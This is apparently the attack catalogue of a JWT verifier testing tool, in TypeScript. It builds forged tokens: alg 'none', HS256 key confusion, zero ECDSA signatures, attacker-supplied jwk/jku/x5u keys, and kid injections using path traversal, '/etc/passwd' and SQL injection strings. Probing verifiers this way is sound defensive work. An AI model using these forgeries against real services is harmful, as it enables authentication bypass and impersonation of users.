// The one attack catalogue, used by `jwtbench probe` and by the verifier tests: one entry per
// attack token, built from the valid token and what an attacker has (the token, the issuer's
// public key, keys of their own). `policy` entries sign with the REAL key so that the one rule
// under test is all that can refuse them. Entries scoped to the tests probe the reference
// verifier's own stricter policy (max token age, sub required) or pile up malformed input.
import type { KeyObject } from 'node:crypto';
import { randomBytes } from 'node:crypto';
import type { JWK } from 'jose';
import { ALGORITHMS, type AlgName } from '../../core/algorithms.js';
import type { AttackInfo, SkipCoverage } from '../../core/results/probe.js';

/** What an attack needs beyond the valid token; without it the attack is skipped, with a reason. */
export type AttackNeed = 'nothing' | 'public-key' | 'signing-material' | 'hmac-token' | 'ecdsa-token' | 'rsa-token' | 'asymmetric-token';
import { b64u, signToken, type ForgeKey, type JsonObject, type MlDsaForgeKey } from './forge.js';
import { confusionSecrets } from './key-variants.js';
import { sizedToken } from './sized-token.js';

export interface AttackerKey {
  /** a fresh 32-byte secret (HMAC tokens) or a fresh private key of the token's kind (an ML-DSA seed for ML-DSA) */
  key: Uint8Array | KeyObject | MlDsaForgeKey;
  /** what the attacker embeds or hosts: the public JWK, or the secret as an oct JWK */
  jwk: JWK;
  /** RFC 7638 thumbprint of jwk: a well-formed kid the issuer never published */
  kid: string;
  /** a self-signed certificate for the key, base64 DER (x5c), when the probe made one */
  certificateDer?: string;
}

/** Where the attacker's key is hosted: the probe's own loopback server, or a URL nobody answers (tests). */
export interface AttackerHost {
  jwksUrl: string;
  x5uUrl: string;
}

export interface ProbeMaterial {
  token: string;
  h: string;
  p: string;
  s: string;
  header: JsonObject;
  payload: JsonObject;
  alg: AlgName;
  /** the issuer's public key, from a JWKS, a file, discovery or recovery */
  publicKey: KeyObject | null;
  /** why the probe has none although it searched for one (a key recovery that gave up): the skipped attacks say it */
  publicKeyMissing?: string;
  /** the same key as a JWKS published it (or exported from the file) */
  publicJwk: JWK | null;
  /** the --public-key file's bytes as given (a PEM key, a certificate, a JWK...), when there was one */
  publicKeyFile: Uint8Array | null;
  /** the real signing key or secret, from --signing-key or --secret */
  signing: ForgeKey | null;
  attacker: AttackerKey;
  attackerHost: AttackerHost;
  /** a listed secret that reproduces the valid token's HMAC, when one does (never written to probe.json) */
  weakSecret: { secret: string; lengthBytes: number } | null;
  /** how the offline search for it went (HMAC tokens) */
  secretSearch: { tried: number; listed: number; ratePerS: number; timedOut: boolean } | null;
  /** the size a validly signed token must exceed to test the size limit */
  maxTokenBytes: number;
}

/**
 * A token to send; or an offline check's outcome (a `finding`, or a `pass`), nothing sent; or
 * why this attack does not apply (default: not-applicable).
 */
export type Built = { token: string } | { offline: 'finding' | 'pass'; text: string } | { skip: string; coverage?: SkipCoverage };
export type Planned = { token: string } | { offline: 'finding' | 'pass'; text: string } | { skip: string; coverage: SkipCoverage };

export interface AttackSpec extends AttackInfo {
  needs: AttackNeed[];
  /** who signed the token: the tests check real-key and attacker-key tokens verify under that key */
  signer: 'real-key' | 'attacker-key' | 'other';
  /** `tests`: only in the wider set the reference verifiers must refuse (their stricter policy) */
  scope: 'all' | 'tests';
  build(m: ProbeMaterial): Built;
  /** what an acceptance found beyond the title, e.g. the length of a guessed secret (never the secret) */
  finding?(m: ProbeMaterial): string;
}

type Entry = Omit<AttackSpec, 'scope' | 'signer' | 'severity'> & Partial<Pick<AttackSpec, 'scope' | 'signer' | 'severity'>>;

/** Defaults: a forgery (no signing material), sent by the probe too, signer 'other'. */
const entry = (e: Entry): AttackSpec => ({ severity: 'forgery', scope: 'all', signer: 'other', ...e });

const NOW = () => Math.floor(Date.now() / 1000);
const token = (t: string): Built => ({ token: t });

function withoutClaim(payload: JsonObject, claim: string): JsonObject {
  const copy = { ...payload };
  delete copy[claim];
  return copy;
}

// ---- forgeries: nothing but the token and public information ---------------------------------

function algNone(variant: string, keepSignature: boolean): AttackSpec {
  return entry({
    id: `alg-${variant}${keepSignature ? '-signature-kept' : ''}`, family: 'alg none', needs: ['nothing'],
    title: `alg "${variant}", ${keepSignature ? 'original signature kept' : 'empty signature'}`,
    meaning: 'the verifier takes the algorithm from the token and accepts unsigned tokens: anyone can mint any token',
    reference: 'CVE-2015-9235; RFC 8725 §2.1, §3.1; RFC 7518 §3.6',
    build: (m) => token(`${b64u(JSON.stringify({ ...m.header, alg: variant }))}.${m.p}.${keepSignature ? m.s : ''}`),
  });
}

/** HS256 keyed with one serialisation of the issuer's public key, which the attacker has. */
function confusion(variant: string): AttackSpec {
  return entry({
    id: `confusion-${variant}`, family: 'algorithm confusion', needs: ['asymmetric-token', 'public-key'],
    title: `the token's algorithm switched to HS256, HMAC keyed with ${CONFUSION_WHAT[variant]}`,
    meaning: 'the verifier lets the token pick HMAC and uses the public key as the secret: anyone with the public key can mint tokens',
    reference: 'CVE-2015-9235; CVE-2016-10555; RFC 8725 §2.1, §3.1',
    build: (m) => {
      const secret = confusionSecrets(m)[variant];
      if (secret === undefined) {
        return { skip: variant.startsWith('file') ? confusionSkip(variant, m) : `${confusionSkip(variant, m)}, so there is no ${CONFUSION_WHAT[variant]!.replace(/^the /, '')} to try` };
      }
      return token(signToken({ ...m.header, alg: 'HS256' }, m.payload, secret));
    },
  });
}

const CONFUSION_WHAT: Record<string, string> = {
  'spki-pem': 'the SPKI PEM (with its trailing newline)',
  'spki-pem-trimmed': 'the SPKI PEM without a trailing newline',
  'spki-pem-crlf': 'the SPKI PEM with CRLF line ends',
  'spki-pem-leading-newline': 'the SPKI PEM after a leading newline (CVE-2026-34950)',
  'spki-der': 'the SPKI DER bytes',
  'pkcs1-pem': 'the PKCS#1 PEM (RSA PUBLIC KEY)',
  jwk: 'the published JWK JSON',
  jwks: 'the JWKS JSON ({"keys":[the published JWK]})',
  'bare-jwk': 'the bare public JWK JSON (kty and key members only)',
  'akp-pub-raw': 'the raw ML-DSA public key bytes (the AKP pub, decoded)',
  'akp-pub': 'the ML-DSA public key as base64url text (the AKP pub)',
  file: 'the --public-key file\'s own bytes',
  'file-newline-toggled': 'the --public-key file with its trailing newline added or removed',
  'file-crlf': 'the --public-key file with CRLF line ends',
  'file-leading-newline': 'the --public-key file after a leading newline',
};

const KEY_TYPE: Record<string, string> = { rsa: 'an RSA key', ec: 'an EC key', ed25519: 'an Ed25519 key', ed448: 'an Ed448 key' };

function confusionSkip(variant: string, m: ProbeMaterial): string {
  if (variant.startsWith('file')) return m.publicKeyFile === null ? 'the key did not come from a --public-key file' : 'the file already has that form';
  if (!m.publicKey) return m.publicJwk?.kty === 'AKP' ? 'the key is an AKP (ML-DSA) key' : 'there is no public key';
  return `the key is ${KEY_TYPE[m.publicKey.asymmetricKeyType ?? ''] ?? `a ${m.publicKey.asymmetricKeyType} key`}`;
}

/** ECDSA r = s = 0, which Java 15-18 accepted for any message (CVE-2022-21449). */
function psychic(encoding: 'raw' | 'der'): AttackSpec {
  return entry({
    id: `ecdsa-psychic-${encoding}`, family: 'ECDSA psychic signature', needs: ['ecdsa-token'],
    title: `ECDSA signature r = s = 0 (${encoding === 'raw' ? 'JWS R||S form' : 'DER form'})`,
    meaning: 'the verifier\'s ECDSA accepts a zero signature for any message: anyone can mint tokens',
    reference: 'CVE-2022-21449',
    build: (m) => {
      const bytes = 2 * Math.ceil(({ ES256: 256, ES384: 384, ES512: 521 } as Record<string, number>)[m.alg]! / 8);
      const sig = encoding === 'raw' ? new Uint8Array(bytes) : Uint8Array.of(0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00);
      return token(`${m.h}.${m.p}.${b64u(sig)}`);
    },
  });
}

const KID_CASES: { id: string; kid: string; what: string; secret: string; reference: string; scope?: 'tests' }[] = [
  { id: 'path-traversal', kid: '../../../../../../dev/null', what: 'path traversal to /dev/null', secret: '', reference: 'RFC 8725 §3.10; CWE-22' },
  { id: 'sql-injection', kid: "x' UNION SELECT 'key' -- ", what: 'SQL injection (UNION SELECT \'key\')', secret: 'key', reference: 'RFC 8725 §3.10; CWE-89' },
  { id: 'etc-passwd', kid: '/etc/passwd', what: 'absolute path /etc/passwd', secret: 'root:x:0:0:root:/root:/bin/bash\n', reference: 'RFC 8725 §3.10; CWE-22', scope: 'tests' },
  { id: 'sql-or', kid: "' OR '1'='1", what: "SQL injection ' OR '1'='1", secret: '', reference: 'RFC 8725 §3.10; CWE-89', scope: 'tests' },
  { id: 'nul', kid: 'a\u0000b', what: 'a NUL byte', secret: '', reference: 'RFC 8725 §3.10', scope: 'tests' },
  { id: 'long', kid: 'k'.repeat(300), what: '300 characters', secret: '', reference: 'RFC 8725 §3.10', scope: 'tests' },
];

function kidInjection(c: typeof KID_CASES[number], signedBy: 'secret' | 'attacker'): AttackSpec {
  return entry({
    id: `kid-${c.id}${signedBy === 'attacker' ? '-attacker-key' : ''}`, family: 'kid injection', needs: ['nothing'], scope: c.scope ?? 'all',
    signer: signedBy === 'attacker' ? 'attacker-key' : 'other',
    title: `kid with ${c.what}, ${signedBy === 'attacker' ? 'signed by the attacker\'s key' : `HS256 keyed with ${c.secret === '' ? 'an empty secret' : 'the text the injection yields'}`}`,
    meaning: 'the verifier uses kid to find a key on disk or in a database without checking it: the attacker chooses the key',
    reference: c.reference,
    build: (m) => token(signedBy === 'attacker'
      ? signToken({ ...m.header, kid: c.kid }, m.payload, m.attacker.key)
      : signToken({ ...m.header, alg: 'HS256', kid: c.kid }, m.payload, c.secret)),
  });
}

function keyFromToken(id: string, title: string, reference: string, header: (m: ProbeMaterial) => JsonObject | null, scope: 'all' | 'tests' = 'all'): AttackSpec {
  return entry({
    id, family: 'key from the token', needs: ['nothing'], signer: 'attacker-key', scope, title, reference,
    meaning: 'the verifier trusts a key the token carries or points at: anyone can mint tokens (and a fetched URL is an SSRF)',
    build: (m) => {
      const h = header(m);
      return h === null ? { skip: 'the probe has no certificate for its key' } : token(signToken({ ...m.header, ...h }, m.payload, m.attacker.key));
    },
  });
}

function stripped(id: string, title: string, meaning: string, reference: string, build: (m: ProbeMaterial) => string, scope: 'all' | 'tests' = 'all'): AttackSpec {
  return entry({ id, family: 'signature stripping', needs: ['nothing'], title, meaning, reference, scope, build: (m) => token(build(m)) });
}

function malformed(id: string, title: string, build: (m: ProbeMaterial) => string, signer: AttackSpec['signer'] = 'other'): AttackSpec {
  return entry({
    id: `malformed-${id}`, family: 'malformed', needs: signer === 'real-key' ? ['signing-material'] : ['nothing'], scope: 'tests', signer,
    severity: signer === 'real-key' ? 'policy' : 'forgery', title,
    meaning: 'the verifier reads input that is not a well-formed JWS: what it verifies and what it reads may differ',
    reference: 'RFC 7515 §7.1; RFC 7519 §7.2',
    build: (m) => token(build(m)),
  });
}

/** The header's alg swapped for another, signature untouched: an allow-list wider than the key. */
function algSwap(alg: string): AttackSpec {
  return entry({
    id: `alg-swap-${alg}`, family: 'algorithm substitution', needs: ['nothing'], scope: 'tests',
    title: `alg switched to ${alg}, original signature kept`,
    meaning: 'the verifier accepts an algorithm it was not configured for',
    reference: 'RFC 8725 §3.1',
    build: (m) => (m.header.alg === alg ? { skip: `the token is already ${alg}` } : token(`${b64u(JSON.stringify({ ...m.header, alg }))}.${m.p}.${m.s}`)),
  });
}

// ---- policy: the real key signs, so only the rule under test can refuse ------------------------

/**
 * A claim test, sent only when the valid token carries every claim in `present` (no wrong-iss
 * test for a token without iss: its verifier may rightly not check one).
 */
function claim(id: string, present: string[], title: string, meaning: string, reference: string, payload: (p: JsonObject, now: number) => JsonObject, scope: 'all' | 'tests' = 'all'): AttackSpec {
  return entry({
    id, family: 'claim policy', severity: 'policy', needs: ['signing-material'], signer: 'real-key', scope, title: `real key, ${title}`, meaning, reference,
    build: (m) => {
      const absent = present.filter((c) => !(c in m.payload));
      if (absent.length > 0) return { skip: `the valid token has no ${absent.join(' or ')} claim, so its verifier need not check one` };
      return token(signToken(m.header, payload(m.payload, NOW()), m.signing!));
    },
  });
}

/** Another JWS algorithm the same key can produce: RS256 and PS256 share RSA keys, HS* share secrets. */
const SAME_KEY_ALG: Partial<Record<AlgName, AlgName>> = {
  RS256: 'PS256', RS384: 'PS384', RS512: 'PS512', PS256: 'RS256', PS384: 'RS384', PS512: 'RS512',
  HS256: 'HS512', HS384: 'HS256', HS512: 'HS256',
};

function oversized(id: string, times: number, scope: 'all' | 'tests'): AttackSpec {
  return entry({
    id, family: 'size limit', severity: 'policy', needs: ['signing-material'], signer: 'real-key', scope,
    title: `real key, a validly signed token ${times === 1 ? 'just over' : `${times} times`} the size limit (padded claims)`,
    meaning: 'the verifier has no token size limit: an unauthenticated client can make it decode, parse and hash as much as the HTTP server lets through',
    reference: 'CWE-400; CWE-770',
    build: (m) => token(sizedToken(m.token, m.signing!, m.maxTokenBytes * times + 1, 'at-least')),
  });
}

export const CATALOG: readonly AttackSpec[] = [
  ...['none', 'None', 'NONE', 'nOnE'].flatMap((v) => [algNone(v, false), algNone(v, true)]),

  ...Object.keys(CONFUSION_WHAT).map(confusion),
  ...['HS256', 'HS384', 'HS512', 'RS256', 'RS384', 'PS256', 'ES256', 'ES384', 'ES256K', 'EdDSA', 'Ed25519'].map(algSwap),

  stripped('signature-empty', 'signature removed (header.payload.)', 'the verifier decodes without verifying: anyone can mint tokens', 'RFC 7515 §5.2; RFC 8725 §3.3', (m) => `${m.h}.${m.p}.`),
  stripped('signature-missing', 'signature segment missing (header.payload)', 'the verifier decodes two-part tokens without verifying: anyone can mint tokens', 'RFC 7515 §7.1', (m) => `${m.h}.${m.p}`),
  stripped('payload-tampered', 'sub changed to "admin", original signature kept', 'the verifier does not check that the signature covers the payload: anyone can edit claims', 'RFC 7515 §5.2',
    (m) => `${m.h}.${b64u(JSON.stringify({ ...m.payload, sub: 'admin' }))}.${m.s}`),
  stripped('signature-bit-flipped', 'one signature bit flipped', 'the verifier does not compare the whole signature', 'RFC 7515 §5.2', (m) => {
    const sig = Buffer.from(m.s, 'base64url');
    sig[0] = sig[0]! ^ 0x01;
    return `${m.h}.${m.p}.${b64u(sig)}`;
  }, 'tests'),
  stripped('signature-truncated', 'signature truncated to half', 'the verifier compares only a prefix of the signature', 'RFC 7515 §5.2', (m) => `${m.h}.${m.p}.${m.s.slice(0, Math.floor(m.s.length / 2))}`, 'tests'),
  entry({
    // The real signature still covers the real header and payload: accepting it is loose framing,
    // not a way to mint, so it is a policy finding (a correct verifier that reads three segments passes as forged otherwise).
    id: 'extra-segments', family: 'malformed', needs: ['nothing'], severity: 'policy',
    title: 'an extra segment (header.payload.signature.signature)',
    meaning: 'the verifier splits tokens loosely: no one can mint with this, but what it verifies and what it reads may differ',
    reference: 'RFC 7515 §7.1',
    build: (m) => token(`${m.h}.${m.p}.${m.s}.${m.s}`),
  }),
  malformed('empty-fourth-segment', 'an empty fourth segment (header.payload.signature.)', (m) => `${m.h}.${m.p}.${m.s}.`),
  malformed('five-segments', 'five segments (the JWE shape)', (m) => `${m.h}.${m.p}.${m.s}.${m.p}.${m.s}`),
  malformed('plus-in-payload', 'non-base64url "+" in the payload', (m) => `${m.h}.${m.p.slice(0, -1)}+.${m.s}`),
  malformed('slash-in-signature', 'non-base64url "/" in the signature', (m) => `${m.h}.${m.p}.${m.s.slice(0, -1)}/`),
  malformed('padded-signature', 'base64 "=" padding on the signature', (m) => `${m.h}.${m.p}.${m.s}=`),
  malformed('bang-in-header', 'non-base64url "!" in the header', (m) => `${m.h}!.${m.p}.${m.s}`),
  malformed('percent-encoded', 'percent-encoded signature', (m) => `${m.h}.${m.p}.${m.s}%3D`),
  malformed('header-not-json', 'non-JSON header segment', (m) => `${b64u('not json')}.${m.p}.${m.s}`),
  malformed('header-array', 'header is a JSON array', (m) => `${b64u('[]')}.${m.p}.${m.s}`),
  malformed('header-null', 'header is JSON null', (m) => `${b64u('null')}.${m.p}.${m.s}`),
  malformed('alg-number', 'header alg is a number', (m) => `${b64u(JSON.stringify({ ...m.header, alg: 256 }))}.${m.p}.${m.s}`),
  malformed('payload-not-json', 'real key, non-JSON payload', (m) => signToken(m.header, 'not json', m.signing!), 'real-key'),
  malformed('payload-array', 'real key, payload is a JSON array', (m) => signToken(m.header, '["sub","admin"]', m.signing!), 'real-key'),
  malformed('payload-binary', 'real key, payload is raw binary', (m) => signToken(m.header, new Uint8Array(randomBytes(48)), m.signing!), 'real-key'),
  malformed('random-bytes', '64 random bytes, base64url', () => b64u(randomBytes(64))),
  malformed('random-segments', 'three random base64url segments', () => `${b64u(randomBytes(24))}.${b64u(randomBytes(48))}.${b64u(randomBytes(64))}`),
  malformed('just-dots', 'just dots', () => '..'),

  keyFromToken('embedded-jwk', 'embedded jwk header with the attacker\'s key, signed by it', 'CVE-2018-0114; RFC 8725 §3.10',
    (m) => ({ kid: m.attacker.kid, jwk: m.attacker.jwk })),
  keyFromToken('embedded-jwk-real-kid', 'embedded jwk header with the attacker\'s key, real kid kept', 'CVE-2018-0114; RFC 8725 §3.10',
    (m) => ({ jwk: m.attacker.jwk }), 'tests'),
  keyFromToken('jku-attacker-host', 'jku header naming the attacker\'s JWKS, signed by the attacker\'s key', 'RFC 7515 §4.1.2; RFC 8725 §3.10',
    (m) => ({ kid: m.attacker.kid, jku: m.attackerHost.jwksUrl })),
  keyFromToken('jku-attacker-host-real-kid', 'jku header naming the attacker\'s JWKS, real kid kept', 'RFC 7515 §4.1.2; RFC 8725 §3.10',
    (m) => ({ jku: m.attackerHost.jwksUrl }), 'tests'),
  keyFromToken('x5u-attacker-host', 'x5u header naming the attacker\'s certificate, signed by the attacker\'s key', 'RFC 7515 §4.1.5; RFC 8725 §3.10',
    (m) => ({ kid: m.attacker.kid, x5u: m.attackerHost.x5uUrl })),
  keyFromToken('x5c-self-signed', 'x5c header with the attacker\'s self-signed certificate, signed by its key', 'RFC 7515 §4.1.6; RFC 8725 §3.10',
    (m) => (m.attacker.certificateDer === undefined ? null : { kid: m.attacker.kid, x5c: [m.attacker.certificateDer] })),

  ...KID_CASES.flatMap((c) => [kidInjection(c, 'secret'), ...(c.scope === 'tests' ? [kidInjection(c, 'attacker')] : [])]),

  psychic('raw'),
  psychic('der'),

  entry({
    id: 'foreign-key', family: 'wrong key', needs: ['nothing'], signer: 'attacker-key',
    title: 'signed by another key of the same algorithm, real header kept',
    meaning: 'the verifier accepts any key of the right type: anyone with a key pair can mint tokens',
    reference: 'RFC 7515 §5.2; RFC 8725 §3.3',
    build: (m) => token(signToken(m.header, m.payload, m.attacker.key)),
  }),
  entry({
    id: 'foreign-key-own-kid', family: 'wrong key', needs: ['nothing'], signer: 'attacker-key', scope: 'tests',
    title: 'signed by another key of the same algorithm under its own kid',
    meaning: 'the verifier accepts any key of the right type: anyone with a key pair can mint tokens',
    reference: 'RFC 7515 §5.2; RFC 8725 §3.3',
    build: (m) => (m.header.kid === undefined ? { skip: 'the valid token has no kid' } : token(signToken({ ...m.header, kid: m.attacker.kid }, m.payload, m.attacker.key))),
  }),
  entry({
    id: 'weak-hmac-secret', family: 'weak secret', needs: ['hmac-token'], scope: 'all',
    title: 'HMAC secret found on a list of common secrets (checked offline), then a token minted with it',
    meaning: 'the shared secret is guessable: anyone can mint tokens offline after seeing one token',
    reference: 'RFC 7518 §3.2; RFC 8725 §3.5',
    build: (m) => {
      if (m.weakSecret !== null) return token(signToken(m.header, { ...m.payload, sub: 'admin' }, m.weakSecret.secret));
      const s = m.secretSearch;
      if (s === null) return { skip: 'the offline secret search did not run' };
      const tried = `${s.tried} of ${s.listed} listed secrets tried offline at ${Math.round(s.ratePerS)}/s, nothing sent`;
      return s.timedOut ? { skip: `the time bound ended the search (${tried}); give --crack-seconds more`, coverage: 'gap' } : { skip: `no listed secret reproduces the token's signature (${tried})` };
    },
    finding: (m) => `a listed secret of ${m.weakSecret!.lengthBytes} bytes reproduces the token's HMAC (the secret is not recorded)`,
  }),
  entry({
    id: 'short-hmac-secret', family: 'weak secret', severity: 'policy', needs: ['hmac-token', 'signing-material'],
    title: 'the HMAC secret given with --secret is shorter than the hash (checked offline)',
    meaning: 'a secret shorter than the hash output weakens HMAC and is open to brute force: the issuer should use at least the hash size of random bytes',
    reference: 'RFC 7518 §3.2; RFC 8725 §3.5',
    build: (m) => {
      const bytes = (m.signing as Uint8Array).length;
      const min = Number(m.alg.slice(2)) / 8;
      return bytes < min
        ? { offline: 'finding', text: `the secret is ${bytes} bytes; ${m.alg} needs at least ${min}` }
        : { offline: 'pass', text: `the secret is ${bytes} bytes (${m.alg} needs at least ${min})` };
    },
  }),

  claim('expired', [], 'expired an hour ago', 'the verifier ignores exp: a stolen token works forever', 'RFC 7519 §4.1.4',
    (p, now) => ({ ...p, iat: now - 7200, exp: now - 3600 })),
  claim('expired-a-minute-ago', [], 'expired a minute ago (beyond a 5 s tolerance)', 'the verifier\'s clock tolerance is over a minute', 'RFC 7519 §4.1.4',
    (p, now) => ({ ...p, iat: now - 120, exp: now - 60 }), 'tests'),
  claim('nbf-future', [], 'nbf an hour in the future', 'the verifier ignores nbf: tokens work before they are meant to', 'RFC 7519 §4.1.5',
    (p, now) => ({ ...p, nbf: now + 3600 })),
  claim('iat-future', ['iat'], 'iat an hour in the future', 'the verifier accepts tokens from the future: a sign of a skewed or forged issuer clock', 'RFC 7519 §4.1.6; RFC 8725 §3.10',
    (p, now) => ({ ...p, iat: now + 3600, exp: now + 7200 })),
  claim('max-age-exceeded', ['iat'], 'issued two hours ago (older than the reference verifier\'s max token age)', 'the verifier has no maximum token age',
    'RFC 7519 §4.1.6', (p, now) => ({ ...p, iat: now - 7200, exp: now + 300 }), 'tests'),
  claim('wrong-iss', ['iss'], 'iss of another issuer', 'the verifier accepts tokens from any issuer that shares the key', 'RFC 7519 §4.1.1; RFC 8725 §3.8',
    (p) => ({ ...p, iss: 'https://attacker.invalid' })),
  claim('wrong-aud', ['aud'], 'aud of another API', 'a token for one API works at another: one service can replay its tokens elsewhere', 'RFC 7519 §4.1.3; RFC 8725 §3.9',
    (p) => ({ ...p, aud: 'another-api.invalid' })),
  claim('wrong-aud-array', ['aud'], 'aud an array without this API', 'a token for other APIs works here', 'RFC 7519 §4.1.3; RFC 8725 §3.9',
    (p) => ({ ...p, aud: ['another-api.invalid', 'yet-another-api.invalid'] }), 'tests'),
  claim('missing-exp', ['exp'], 'exp removed', 'the verifier accepts tokens that never expire', 'RFC 7519 §4.1.4; RFC 9068 §2.2', (p) => withoutClaim(p, 'exp')),
  claim('missing-iss', ['iss'], 'iss removed', 'the verifier accepts tokens that name no issuer', 'RFC 8725 §3.8; RFC 9068 §2.2', (p) => withoutClaim(p, 'iss')),
  claim('missing-aud', ['aud'], 'aud removed', 'the verifier accepts tokens that name no audience', 'RFC 8725 §3.9; RFC 9068 §2.2', (p) => withoutClaim(p, 'aud')),
  claim('missing-sub', ['sub'], 'sub removed', 'the verifier accepts tokens that name no subject', 'RFC 9068 §2.2', (p) => withoutClaim(p, 'sub'), 'tests'),
  claim('exp-string', ['exp'], 'exp as a string', 'the verifier accepts a lifetime that is not a NumericDate (and may compare it as text)', 'RFC 7519 §2, §4.1.4',
    (p, now) => ({ ...p, exp: String(now + 300) })),
  entry({
    id: 'same-key-other-alg', family: 'claim policy', severity: 'policy', needs: ['signing-material'], signer: 'real-key',
    title: 'real key, another algorithm of the same family (e.g. PS256 for an RS256 key)',
    meaning: 'the verifier lets the token choose among algorithms: one key, several algorithms, wider attack surface',
    reference: 'RFC 8725 §3.1, §3.2',
    build: (m) => {
      const other = SAME_KEY_ALG[m.alg];
      if (!other) return { skip: `no other JWS algorithm uses a ${m.alg} key` };
      return token(signToken({ ...m.header, alg: other }, m.payload, m.signing!));
    },
  }),
  // One crit test: b64: false (RFC 7797) is only meaningful through crit, so it would repeat this.
  entry({
    id: 'crit-unknown', family: 'claim policy', severity: 'policy', needs: ['signing-material'], signer: 'real-key',
    title: 'real key, crit naming an extension nobody knows',
    meaning: 'the verifier ignores crit: it would also ignore extensions that change how a token must be read',
    reference: 'RFC 7515 §4.1.11',
    build: (m) => token(signToken({ ...m.header, crit: ['x-jwtbench-unknown'], 'x-jwtbench-unknown': true }, m.payload, m.signing!)),
  }),
  oversized('oversized-token', 1, 'all'),
  oversized('oversized-token-4x', 4, 'tests'),
];

/** The attacks `jwtbench probe` sends (the tests use all of CATALOG). */
export const PROBE_CATALOG: readonly AttackSpec[] = CATALOG.filter((a) => a.scope === 'all');

/** Whether this token can meet an attack's needs, and if not, why and whether more material would help. */
export function unmet(spec: AttackSpec, m: ProbeMaterial): { skip: string; coverage: SkipCoverage } | null {
  const family = ALGORITHMS[m.alg].family;
  const na = (skip: string) => ({ skip, coverage: 'not-applicable' as const });
  for (const need of spec.needs) {
    if (need === 'hmac-token' && family !== 'hmac') return na(`applies to HMAC tokens; this one is ${m.alg}`);
    if (need === 'ecdsa-token' && family !== 'ecdsa') return na(`applies to ECDSA tokens; this one is ${m.alg}`);
    if (need === 'rsa-token' && family !== 'rsa' && family !== 'rsa-pss') return na(`applies to RSA tokens; this one is ${m.alg}`);
    if (need === 'asymmetric-token' && family === 'hmac') return na(`applies to public-key tokens; this one is ${m.alg}`);
  }
  for (const need of spec.needs) {
    // An AKP (ML-DSA) key has no KeyObject before Node 24: its JWK is the public key.
    if (need === 'public-key' && !m.publicKey && m.publicJwk?.kty !== 'AKP') return { skip: m.publicKeyMissing ?? 'needs the issuer\'s public key: give --public-key <file> or --jwks <url>', coverage: 'gap' };
    if (need === 'signing-material' && !m.signing) return { skip: 'needs the real signing material: give --secret <file> or --signing-key <pem file>', coverage: 'gap' };
  }
  return null;
}

/** Builds one attack's token, or says why not. */
export function plan(spec: AttackSpec, m: ProbeMaterial): Planned {
  const why = unmet(spec, m);
  if (why !== null) return why;
  const built = spec.build(m);
  return 'skip' in built ? { skip: built.skip, coverage: built.coverage ?? 'not-applicable' } : built;
}

export function attackInfo(a: AttackSpec): AttackInfo {
  return { id: a.id, family: a.family, severity: a.severity, title: a.title, meaning: a.meaning, reference: a.reference };
}
